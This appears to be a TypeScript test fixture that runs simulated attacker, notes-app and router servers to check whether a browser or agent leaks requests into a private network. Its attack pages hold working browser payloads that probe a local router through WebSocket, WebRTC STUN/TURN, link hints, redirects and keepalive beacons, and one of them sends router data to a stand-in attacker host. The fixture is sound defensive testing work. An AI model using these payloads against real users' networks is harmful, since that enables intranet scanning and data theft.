/**
 * The servers of the hostile world (addresses.ts): the attacker's site, a notes app that keeps the
 * user's notes in localStorage, and the user's router. Every server logs every request; the router
 * also logs every TCP connection on each port it listens on and every UDP packet (STUN, TURN), so
 * "the router saw nothing" is checked on the wire, not by what the browser says.
 */
import { createServer as createHttpServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { createSocket, type Socket } from 'node:dgram';
import { ATTACKER_HOST, ATTACKER_IP, NOTES_HOST, NOTES_IP, ROUTER_HOST, ROUTER_IP } from './addresses';

export const NOTE_SECRET = 'NOTE-SECRET-4417';
export const ROUTER_SECRET = 'ROUTER-SECRET-9051';
/** What the profile API answers the user, logged in with HTTP auth; the browser keeps it in its HTTP cache. */
export const CACHE_SECRET = 'CACHE-SECRET-6230';
/** The profile page, on its own host name (no storage there): its script shows what /me.json answers. */
export const PROFILE_URL = 'http://www.attacker.example/profile.html';

/** Ports the router listens on besides HTTP on 80: HTTPS, admin and preconnect targets, STUN/TURN. */
export const ROUTER_TCP_PORTS = [443, 3478, 8080, 8081];
export const ROUTER_UDP_PORTS = [3478, 19302];

export interface Hit {
  server: string;
  what: string;
}

const ATTACKER = `http://${ATTACKER_HOST}`;
const ROUTER = `http://${ROUTER_HOST}`;

/** Words enough that a rendered page beats the fetched one (background/open-page/thin-text.ts). */
const FILLER = 'The hub collects notes on the regional energy market for this week. '.repeat(8);

/** A page whose script reports that it ran (to the attacker, an allowed public host) and writes its findings into the text. */
function scripted(title: string, script: string, head = ''): string {
  return `<!doctype html><html><head><title>${title}</title>${head}</head><body><h1>${title}</h1><main id="out"></main><script>
const out = (t) => { const p = document.createElement('p'); p.textContent = t; document.getElementById('out').append(p); };
const ran = (what) => fetch('${ATTACKER}/ran?' + what, { mode: 'no-cors' }).catch(() => {});
${script}
out(${JSON.stringify(FILLER)});
</script></body></html>`;
}

/** The attack pages on the attacker's site, by path. */
export const ATTACK_PAGES: Record<string, { title: string; html: string; headers?: Record<string, string> }> = {
  '/ws.html': {
    title: 'Socket notes',
    html: scripted(
      'Socket notes',
      `ran('ws-start');
for (const url of ['ws://${ROUTER_HOST}/ws', 'ws://${ROUTER_IP}/ws']) {
  try {
    const s = new WebSocket(url);
    s.onmessage = (e) => { out('router said ' + e.data); fetch('${ATTACKER}/collect?d=' + encodeURIComponent(e.data), { mode: 'no-cors' }); };
  } catch (e) { ran('ws-missing'); }
}`,
    ),
  },
  '/rtc.html': {
    title: 'Peer notes',
    html: scripted(
      'Peer notes',
      `ran('rtc-start');
try {
  const pc = new RTCPeerConnection({ iceServers: [
    { urls: ['stun:${ROUTER_IP}:3478', 'stun:${ROUTER_HOST}:19302'] },
    { urls: ['turn:${ROUTER_IP}:3478?transport=tcp', 'turn:${ROUTER_HOST}:3478?transport=udp'], username: 'u', credential: 'p' },
  ] });
  pc.createDataChannel('scan');
  pc.onicecandidate = (e) => { if (e.candidate) out('candidate ' + e.candidate.candidate); };
  pc.createOffer().then((o) => pc.setLocalDescription(o));
} catch (e) { ran('rtc-missing'); }
try {
  const f = document.createElement('iframe');
  document.body.append(f);
  new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${ROUTER_IP}:19302' }] }).createDataChannel('x');
} catch (e) { ran('rtc-frame-missing'); }`,
    ),
  },
  '/preconnect.html': {
    title: 'Hints',
    headers: { link: `<http://${ROUTER_IP}:8081>; rel=preconnect` },
    html: scripted(
      'Hints',
      `ran('hints');
for (const rel of ['preconnect', 'dns-prefetch', 'prefetch']) {
  const l = document.createElement('link'); l.rel = rel; l.href = 'http://${ROUTER_HOST}:8080/' + rel; document.head.append(l);
}`,
      `<link rel="preconnect" href="http://${ROUTER_HOST}:8080"><link rel="dns-prefetch" href="http://${ROUTER_HOST}">`,
    ),
  },
  '/navigate.html': {
    title: 'Moved',
    // Navigates once its report is sent: Firefox cancels a document's pending requests when a navigation starts.
    html: scripted('Moved', `ran('navigate').then(() => { location.href = '${ROUTER}/admin'; });`),
  },
  '/fetch-router.html': {
    title: 'Status board',
    html: scripted(
      'Status board',
      `ran('fetch');
fetch('${ROUTER}/status.json').then((r) => r.text()).then((t) => out('router status ' + t)).catch(() => {});
const img = new Image(); img.src = '${ROUTER}/pixel.png'; document.body.append(img);`,
    ),
  },
  '/profile.html': {
    title: 'Profile',
    html: scripted('Profile', `ran('profile'); fetch('/me.json').then((r) => r.text()).then((t) => out('me ' + t)).catch(() => {});`),
  },
  '/keepalive.html': {
    title: 'Goodbye',
    html: scripted(
      'Goodbye',
      `ran('keepalive');
addEventListener('pagehide', () => {
  for (const to of ['http://${ROUTER_IP}/keepalive', '${ROUTER}/keepalive-name']) {
    fetch('${ATTACKER}/slow?to=' + encodeURIComponent(to), { keepalive: true, mode: 'no-cors' });
    navigator.sendBeacon('${ATTACKER}/slow?beacon=1&to=' + encodeURIComponent(to), 'x');
  }
});`,
    ),
  },
};

/** The attacker's front page: links to every attack page and to the router by name (links in a page read count as found). */
function attackerIndex(): string {
  const links = [...Object.entries(ATTACK_PAGES).map(([path, p]) => `<li><a href="${path === '/profile.html' ? PROFILE_URL : `${ATTACKER}${path}`}">${p.title}</a></li>`), `<li><a href="${ROUTER}/">Router status</a></li>`, `<li><a href="http://${NOTES_HOST}/">My notes</a></li>`];
  return `<!doctype html><title>Energy hub</title><h1>Energy hub</h1><p>${FILLER}</p><ul>${links.join('')}</ul>`;
}

/** A notes app that keeps its notes in localStorage and sets no cookie: the page is empty until its script renders them. */
const NOTES_APP = `<!doctype html><html><head><title>Notes</title></head><body><main id="app">Loading…</main><script>
const note = localStorage.getItem('note');
document.getElementById('app').innerHTML = note
  ? '<h1>Your notes</h1>' + ('<p>' + note + ' — private note kept in this browser. </p>').repeat(12)
  : '<h1>Notes</h1>' + '<p>No notes yet. Write one and it stays in this browser only, never on our server. </p>'.repeat(6);
</script></body></html>`;

export interface WorldServers {
  attackerHits: Hit[];
  notesHits: Hit[];
  /** Everything the router saw: HTTP requests, WebSocket upgrades, TCP connections, UDP packets. */
  routerHits: Hit[];
  /**
   * Closes every connection the router's HTTP server holds. Chromium keeps a connection its own address
   * check refused and sends the next request to that name over it (refused again, but no new
   * connection is counted): a test of whether a later request still connects starts from none.
   */
  dropRouterConnections(): void;
  close(): Promise<void>;
}

function describe(req: IncomingMessage): string {
  return `${req.method} ${req.headers.host}${req.url}${req.headers.cookie ? ` cookie=${req.headers.cookie}` : ''}`;
}

async function listenHttp(ip: string, port: number, name: string, log: Hit[], handler: (req: IncomingMessage, res: ServerResponse, body: string) => void): Promise<Server> {
  const server = createHttpServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      log.push({ server: name, what: `${describe(req)}${body ? ` body=${body}` : ''}` });
      handler(req, res, body);
    });
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen({ host: ip, port }, resolve);
  });
  return server;
}

/** Starts the world's servers on their addresses (inside the namespace: run-in-world.ts). */
export async function startWorldServers(): Promise<WorldServers> {
  const attackerHits: Hit[] = [];
  const notesHits: Hit[] = [];
  const routerHits: Hit[] = [];
  const closers: (() => Promise<void>)[] = [];
  const closeHttp = (s: Server) => () =>
    new Promise<void>((r) => {
      s.closeAllConnections();
      s.close(() => r());
    });

  const attacker = await listenHttp(ATTACKER_IP, 80, 'attacker', attackerHits, (req, res) => {
    const url = new URL(req.url ?? '/', ATTACKER);
    const page = ATTACK_PAGES[url.pathname];
    if (page) return void res.writeHead(200, { 'content-type': 'text/html', ...page.headers }).end(page.html);
    if (url.pathname === '/me.json') {
      // Logged in by HTTP auth: a private answer the browser may keep for an hour. Anyone else is anonymous.
      if (req.headers.authorization) return void res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'private, max-age=3600' }).end(JSON.stringify({ secret: CACHE_SECRET }));
      return void res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' }).end('{"anonymous":true}');
    }
    if (url.pathname === '/slow') {
      // A slow redirect: the request outlives the page (and its tab) by three seconds.
      const to = url.searchParams.get('to') ?? '/';
      return void setTimeout(() => res.writeHead(307, { location: to }).end(), 3000);
    }
    if (url.pathname === '/') return void res.writeHead(200, { 'content-type': 'text/html' }).end(attackerIndex());
    res.writeHead(204).end();
  });
  closers.push(closeHttp(attacker));

  const notes = await listenHttp(NOTES_IP, 80, 'notes', notesHits, (req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' }).end(NOTES_APP);
  });
  closers.push(closeHttp(notes));

  const routerPage = `<!doctype html><title>Router admin</title><p>${ROUTER_SECRET} ${'admin '.repeat(80)}</p>`;
  const router = await listenHttp(ROUTER_IP, 80, 'router', routerHits, (req, res) => {
    res.writeHead(200, { 'content-type': req.url?.endsWith('.json') ? 'application/json' : 'text/html', 'access-control-allow-origin': '*' }).end(req.url?.endsWith('.json') ? JSON.stringify({ secret: ROUTER_SECRET }) : routerPage);
  });
  router.on('connection', () => routerHits.push({ server: 'router', what: 'tcp connection on 80' }));
  router.on('upgrade', (req, socket) => {
    routerHits.push({ server: 'router', what: `websocket ${describe(req)}` });
    socket.end('HTTP/1.1 400 Bad Request\r\n\r\n');
  });
  closers.push(closeHttp(router));

  for (const port of ROUTER_TCP_PORTS) {
    const tcp: TcpServer = createTcpServer((socket) => {
      routerHits.push({ server: 'router', what: `tcp connection on ${port}` });
      socket.on('data', (d: Buffer) => routerHits.push({ server: 'router', what: `tcp data on ${port}: ${d.length} bytes` }));
      socket.on('error', () => {});
      socket.end();
    });
    await new Promise<void>((resolve, reject) => {
      tcp.once('error', reject);
      tcp.listen({ host: ROUTER_IP, port }, resolve);
    });
    closers.push(() => new Promise<void>((r) => tcp.close(() => r())));
  }
  for (const port of ROUTER_UDP_PORTS) {
    const udp: Socket = createSocket('udp4');
    udp.on('message', (m, from) => routerHits.push({ server: 'router', what: `udp packet on ${port} from ${from.address}: ${m.length} bytes` }));
    await new Promise<void>((resolve, reject) => {
      udp.once('error', reject);
      udp.bind(port, ROUTER_IP, resolve);
    });
    closers.push(() => new Promise<void>((r) => udp.close(() => r())));
  }

  return {
    attackerHits,
    notesHits,
    routerHits,
    dropRouterConnections: () => router.closeAllConnections(),
    close: async () => {
      await Promise.all(closers.map((c) => c()));
    },
  };
}

export const WORLD_URLS = {
  attacker: `${ATTACKER}/`,
  notes: `http://${NOTES_HOST}/`,
  router: `${ROUTER}/`,
  page: (path: keyof typeof ATTACK_PAGES) => `${ATTACKER}${path}`,
};
